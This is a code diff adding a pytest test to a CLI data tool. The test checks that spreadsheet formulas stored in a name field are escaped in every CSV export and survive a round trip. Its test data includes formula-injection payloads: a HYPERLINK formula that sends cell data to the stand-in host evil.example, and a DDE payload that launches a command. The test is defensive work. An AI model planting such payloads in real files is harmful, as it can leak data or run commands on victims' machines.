@@ -90,3 +90,32 @@ def test_a_file_wholly_in_windows_1252_is_still_read(runner: CliRunner, db_path:
     code, output = invoke(runner, db_path, "import", "actors", str(table))
     assert code == 0, output
     assert "Café B" in invoke(runner, db_path, "show", "actors", "cafe-b")[1]
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_a_formula_in_a_name_is_written_to_every_csv_as_text_and_read_back_exactly(
+    runner: CliRunner, db_path: Path, tmp_path: Path, formula: str
+) -> None:
+    import csv
+    import json
+
+    code, output = invoke(runner, db_path, "add", "actors", "--set", "id=trap", "--set", f"name={formula}", "--set", "kind=other")
+    assert code == 0, output
+    exported = tmp_path / "actors.csv"
+    invoke(runner, db_path, "export", "actors", "--format", "csv", "-o", str(exported))
+    public = tmp_path / "public"
+    invoke(runner, db_path, "publish", "-o", str(public))
+    listed = tmp_path / "listed.csv"
+    listed.write_text(invoke(runner, db_path, "list", "actors", "--csv")[1], encoding="utf-8")
+    for written in (exported, public / "actors.csv", listed):
+        with written.open(encoding="utf-8", newline="") as f:
+            names = [row["name"] for row in csv.DictReader(f)]
+        assert names == ["'" + formula], written
+    assert json.loads((public / "actors.json").read_text(encoding="utf-8"))[0]["name"] == formula
+    fresh = tmp_path / "fresh.db"
+    invoke(runner, fresh, "init")
+    assert invoke(runner, fresh, "import", "actors", str(exported))[0] == 0
+    assert json.loads(invoke(runner, fresh, "show", "actors", "trap", "--json")[1])["name"] == formula
